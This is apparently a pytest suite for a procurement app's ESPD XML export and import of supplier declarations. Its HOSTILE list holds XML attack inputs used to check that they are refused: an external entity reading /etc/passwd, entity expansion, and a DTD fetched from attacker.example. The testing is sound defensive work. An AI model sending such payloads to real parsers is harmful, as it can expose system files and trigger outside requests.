"""A declaration goes out as an ESPD response and comes back the same; hostile files do not come in."""

import re

import pytest
from lxml import etree

from procurement.lifecycle import Refused
from procurement.safe_xml import XmlRefused
from suppliers.declarations.actions import answer, begin_own, take_in
from suppliers.declarations.answers import kept
from suppliers.declarations.criteria import criteria
from suppliers.declarations.espd import espd_of
from suppliers.declarations.espd_reading import read_espd
from suppliers.declarations.signing import sign
from suppliers.declarations.ubl import CAC, CBC, SPACES
from tests.factories.declarations import FULL, NOW, clear, declared, declared_of

pytestmark = pytest.mark.django_db
HOSTILE = [
    b'<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><a>&f;</a>',
    b'<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><a>&d;</a>',
    b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><QualificationApplicationResponse/>',
    b"<a>" * 101 + b"</a>" * 101,
    b"<QualificationApplicationResponse>",
    b"%PDF-1.7",
    b"",
]


@pytest.fixture
def declaration(personas):
    found = begin_own(personas.supplier, by=personas.owner, now=NOW)
    answer(found, {**clear(), **FULL}, by=personas.owner, now=NOW)
    return found


def again(data):
    return {code: kept(criteria()[code], values) for code, values in read_espd(data).items()}


def respelled(data, old, new):
    assert old in data
    return data.replace(old, new)


def test_what_went_out_comes_back_the_same(declaration):
    assert set(FULL) <= set(declaration.answers)
    assert again(espd_of(declaration, now=NOW)) == declaration.answers


def test_taken_in_elsewhere_it_is_the_same_declaration_and_waits_for_a_signature(declaration, personas):
    data = espd_of(declaration, now=NOW)
    other = declared(personas.other_supplier, personas.other_owner)
    count = take_in(other, data, by=personas.other_owner, now=NOW)
    other.refresh_from_db()
    assert count == len(declaration.answers)
    assert (other.answers, other.signed_at) == (declaration.answers, None)


def test_taking_in_the_same_again_keeps_the_signature(personas):
    own = declared(personas.supplier, personas.owner)
    take_in(own, espd_of(own, now=NOW), by=personas.owner, now=NOW)
    own.refresh_from_db()
    assert own.signed_at == NOW


def test_it_names_firm_version_and_each_criterion_by_its_identifiers(declaration):
    root = etree.fromstring(espd_of(declaration, now=NOW))
    assert root.tag == f"{{{SPACES[None]}}}QualificationApplicationResponse"
    assert root.findtext(f"{{{CBC}}}ProfileExecutionID") == "ESPD-EDMv4.1.0"
    operator = root.find(f"{{{CAC}}}EconomicOperatorParty/{{{CAC}}}Party")
    assert operator.findtext(f"{{{CAC}}}PartyName/{{{CBC}}}Name") == declaration.supplier.name
    assert operator.findtext(f"{{{CBC}}}IndustryClassificationCode") == "small"
    assert [line.text for line in operator.iter(f"{{{CBC}}}Line")] == ["Rue Neuve 12, 5000 Valbrume"]
    codes = [node.text for node in root.iter(f"{{{CBC}}}CriterionTypeCode")]
    assert codes == [code for code in criteria() if code in declaration.answers]


def test_every_answer_belongs_to_a_question_of_the_document_and_has_its_own_name(declaration):
    root = etree.fromstring(espd_of(declaration, now=NOW))
    asked = {node.findtext(f"{{{CBC}}}ID") for node in root.iter(f"{{{CAC}}}TenderingCriterionProperty")}
    answers = root.findall(f"{{{CAC}}}TenderingCriterionResponse")
    assert {node.findtext(f"{{{CBC}}}ValidatedCriterionPropertyID") for node in answers} <= asked
    names = [node.findtext(f"{{{CBC}}}ID") for node in answers]
    assert len(set(names)) == len(names)


def test_no_group_is_without_a_property(declaration):
    """The schema wants one in each."""
    root = etree.fromstring(espd_of(declaration, now=NOW))
    groups = [node for node in root.iter() if str(node.tag).endswith("PropertyGroup")]
    assert len(groups) > 100
    assert all(node.find(f"{{{CAC}}}TenderingCriterionProperty") is not None for node in groups)


def test_another_firm_speaks_under_its_own_name(personas):
    member = declared_of("Membre & Fils", personas.supplier, personas.owner, about="member")
    root = etree.fromstring(espd_of(member, now=NOW))
    operator = root.find(f"{{{CAC}}}EconomicOperatorParty")
    assert operator.findtext(f"{{{CAC}}}EconomicOperatorRole/{{{CBC}}}RoleCode") == "group-mem"
    assert operator.findtext(f"{{{CAC}}}Party/{{{CAC}}}PartyName/{{{CBC}}}Name") == "Membre & Fils"
    assert personas.supplier.email not in espd_of(member, now=NOW).decode()


def test_identifiers_of_another_version_and_without_numbers_are_read(declaration):
    data = espd_of(declaration, now=NOW)
    renamed = re.sub(rb"C\d+_(EG|SC)_", rb"C99_\1_", data)
    assert again(renamed) == declaration.answers
    bare = re.sub(rb"/R1<", b"<", data)
    assert again(bare)["corruption"] == declaration.answers["corruption"]


def test_rows_without_numbers_are_told_apart_by_their_order(declaration):
    data = re.sub(rb"/R[12]<", b"<", espd_of(declaration, now=NOW))
    assert again(data)["gen-year-to"] == declaration.answers["gen-year-to"]


def test_a_sum_in_another_currency_is_not_taken_for_euro(declaration):
    data = respelled(espd_of(declaration, now=NOW), b'currencyID="EUR">1250.50', b'currencyID="USD">1250.50')
    assert "amount" not in again(data)["tax-pay"]


@pytest.mark.parametrize("data", HOSTILE)
def test_hostile_or_broken_files_change_nothing(data, declaration, personas):
    before = dict(declaration.answers)
    with pytest.raises(Refused) as refused:
        take_in(declaration, data, by=personas.owner, now=NOW)
    assert str(refused.value).endswith(".")
    declaration.refresh_from_db()
    assert declaration.answers == before


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b">2025-05-04</cbc:ResponseDate>", b">never</cbc:ResponseDate>"),
        (b">1250.50</cbc:ResponseAmount>", b">1e99</cbc:ResponseAmount>"),
        (b"A site foreman paid a clerk.", b"x" * 5000),
        (b"A site foreman paid a clerk.", "turned \u202e".encode()),
    ],
)
def test_an_answer_that_is_none_is_refused_and_nothing_of_the_file_is_kept(old, new, declaration, personas):
    data = respelled(espd_of(declaration, now=NOW), old, new)
    other = declared(personas.other_supplier, personas.other_owner)
    with pytest.raises(Refused):
        take_in(other, data, by=personas.other_owner, now=NOW)
    other.refresh_from_db()
    assert other.answers == clear()


@pytest.mark.parametrize("root", [b"QualificationApplicationRequest", b"Invoice"])
def test_only_a_response_holds_answers(root, declaration):
    data = espd_of(declaration, now=NOW).replace(b"<QualificationApplicationResponse", b"<" + root)
    data = data.replace(b"</QualificationApplicationResponse", b"</" + root)
    with pytest.raises(XmlRefused, match="no ESPD response"):
        read_espd(data)


def test_a_response_under_other_identifiers_says_that_nothing_was_found(declaration):
    data = re.sub(rb">C\d+_", b">X_", espd_of(declaration, now=NOW))
    with pytest.raises(XmlRefused, match="No answer was found"):
        read_espd(data)


def test_signing_needs_every_ground(declaration, personas):
    sign(declaration, by=personas.owner, now=NOW)
    assert declaration.signed_by == personas.owner
